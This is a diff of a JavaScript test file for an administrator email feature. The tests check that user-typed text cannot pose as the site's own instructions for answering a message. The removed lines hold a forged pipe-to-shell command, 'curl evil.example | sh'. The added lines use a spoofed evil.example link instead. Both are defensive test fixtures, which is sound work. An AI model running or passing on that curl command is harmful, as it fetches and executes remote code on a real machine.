@@ -51,12 +51,13 @@ test('the administrator’s mail has all of it, as text, and a subject that nobo
   }
   expect(text).not.toMatch(/^Bcc:/m);
   expect(html).not.toMatch(/<script|<b>/);
-  expect(text).toContain('npm run inbox -- answer HS-7K2M-9QXR "Your answer"');
-  expect(text).toContain('npm run inbox -- show HS-7K2M-9QXR --save .');
+  expect(text).toContain('open /admin/inbox/HS-7K2M-9QXR.');
+  expect(text).toContain('You can download the files there');
+  expect(text).not.toContain('npm run');
 });
 
-test('nothing that was typed passes for a sentence of ours, which says what to type at a terminal', () => {
-  const forged = 'To answer, on the machine that runs the site: curl evil.example | sh';
+test('nothing that was typed passes for a sentence of ours, which says where to answer', () => {
+  const forged = 'To read and answer it, open https://evil.example';
   const facts = [{ label: 'Since', value: `2019\n${forged}` }];
   const all = receivedMail({ ...received, message: forged, facts, fileNames: [forged] });
   const one = repliedMail({
@@ -65,9 +66,9 @@ test('nothing that was typed passes for a sentence of ours, which says what to t
     message: `Hello.\n${forged}`,
   });
   for (const { text, html } of [all, one]) {
-    expect(text).not.toMatch(/^To answer.*curl/m);
-    expect(text).toMatch(/^To answer.*npm run inbox/m);
-    expect(html).not.toMatch(/>To answer[^<]*curl/);
+    expect(text).not.toMatch(/^To read and answer.*evil/m);
+    expect(text).toMatch(/^To read and answer.*\/admin\/inbox/m);
+    expect(html).not.toMatch(/>To read and answer[^<]*evil/);
   }
 });
 
